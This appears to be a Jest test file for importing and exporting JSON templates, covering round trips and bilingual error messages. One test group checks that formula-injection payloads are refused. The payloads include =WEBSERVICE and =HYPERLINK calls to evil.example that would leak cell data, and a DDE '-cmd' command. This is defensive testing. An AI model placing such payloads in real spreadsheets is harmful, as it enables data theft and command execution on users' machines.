/** Export / import of templates as JSON: a lossless round trip, and clear zh + en errors for bad files. */
import {
  TEMPLATES,
  TEMPLATE_FILE_FORMAT,
  exportTemplates,
  importTemplates,
  type Template,
} from "../../src/domain/templates";

const cjk = /[\u4e00-\u9fff]/;

function expectError(json: string, zhPart: RegExp | string, enPart: RegExp | string): void {
  const r = importTemplates(json);
  expect(r.ok).toBe(false);
  if (r.ok) return;
  expect(r.error.zh).toMatch(/^无法导入模板：/);
  expect(r.error.en).toMatch(/^Cannot import the templates: /);
  expect(r.error.zh).toMatch(zhPart);
  expect(r.error.en).toMatch(enPart);
}

test("export → import gives back the same templates", () => {
  const json = exportTemplates(TEMPLATES);
  expect(JSON.parse(json)).toMatchObject({ format: TEMPLATE_FILE_FORMAT, version: 1 });
  const r = importTemplates(json);
  expect(r.ok).toBe(true);
  if (r.ok) expect(r.templates).toEqual(TEMPLATES);
});

test("a byte-order mark, a bare array or a single template are accepted", () => {
  const one = TEMPLATES[3];
  const a = importTemplates(`\uFEFF${exportTemplates([one])}`);
  expect(a.ok && a.templates).toEqual([one]);
  const b = importTemplates(JSON.stringify([one, TEMPLATES[4]]));
  expect(b.ok && b.templates.map((t) => t.id)).toEqual([one.id, TEMPLATES[4].id]);
  const c = importTemplates(JSON.stringify(one));
  expect(c.ok && c.templates).toEqual([one]);
});

describe("bad files", () => {
  test("not JSON", () => expectError("{ templates: [", /不是有效的 JSON/, /not valid JSON/));
  test("empty", () => expectError("  ", /空/, /empty/));
  test("a number", () => expectError("42", /应为模板文件/, /expected a template file/));
  test("the wrong header", () =>
    expectError(
      JSON.stringify({ format: "other", version: 1, templates: [] }),
      /jixiao-templates/,
      /jixiao-templates/,
    ));
  test("no templates", () => expectError(exportTemplates([]), /没有模板/, /no templates/));
  test("a duplicate id", () => expectError(exportTemplates([TEMPLATES[3], TEMPLATES[3]]), /重复/, /twice/));

  test("a template with a 二级 under the wrong 一级 names the template, the row and the problem in each language", () => {
    const broken: Template = structuredClone(TEMPLATES[3]);
    broken.rows[1] = { ...broken.rows[1], l1: "效益指标", l2: "数量指标" };
    const json = exportTemplates([TEMPLATES[4], broken]);
    expectError(
      json,
      /第 2 个模板 “labour-dispatch-staff”：rows\[1\]\.l2: 二级指标“数量指标”不属于一级指标“效益指标”/,
      /template 2 “labour-dispatch-staff”: rows\[1\]\.l2: 二级 “数量指标” does not belong to “效益指标”/,
    );
  });

  test("a template missing its rows and with a bad kind", () => {
    const { rows: _rows, ...rest } = structuredClone(TEMPLATES[5]);
    const json = JSON.stringify({ format: TEMPLATE_FILE_FORMAT, version: 1, templates: [{ ...rest, kind: "table" }] });
    const r = importTemplates(json);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error.zh).toMatch(/kind/);
    expect(r.error.zh).toMatch(/rows/);
    expect(r.error.en).toMatch(/kind/);
    expect(cjk.test(r.error.zh)).toBe(true);
  });
});

describe("imported templates are text only: nothing Excel would take as a formula (issue 9, item 4)", () => {
  const withRow = (patch: Record<string, string>, where: "rows" | "name" | "defaults" = "rows") => {
    const t = JSON.parse(JSON.stringify(TEMPLATES.find((x) => x.kind === "indicators")!)) as Template & {
      defaults?: Record<string, unknown>;
    };
    if (where === "rows") Object.assign(t.rows[0], patch);
    else if (where === "name") Object.assign(t.name, patch);
    else t.defaults = { ...(t.defaults ?? {}), ...patch };
    return exportTemplates([t]);
  };
  test.each([
    ["=HYPERLINK in a target", { period: '=HYPERLINK("http://evil.example","点我")' }, "rows"],
    ["=WEBSERVICE in a name", { l3: '=WEBSERVICE("http://evil.example/?"&A1)' }, "rows"],
    ["+ formula", { annual: "+A1*2" }, "rows"],
    ["- formula", { annual: '-cmd|" /C calc"!A0' }, "rows"],
    ["@ formula", { annual: "@SUM(A1:A9)" }, "rows"],
    ["in the display name", { zh: "=1+1" }, "name"],
    ["in a default", { name: '=HYPERLINK("x")' }, "defaults"],
  ] as const)("%s → refused, naming the field", (_n, patch, where) => {
    expectError(withRow(patch, where), /不能以 = \+ - @ 开头写公式/, /must not start a formula/);
  });

  test("text that only looks numeric is still allowed (it is written as text)", () => {
    const r = importTemplates(withRow({ period: "-5%", annual: "100%" }));
    expect(r.ok).toBe(true);
  });
});
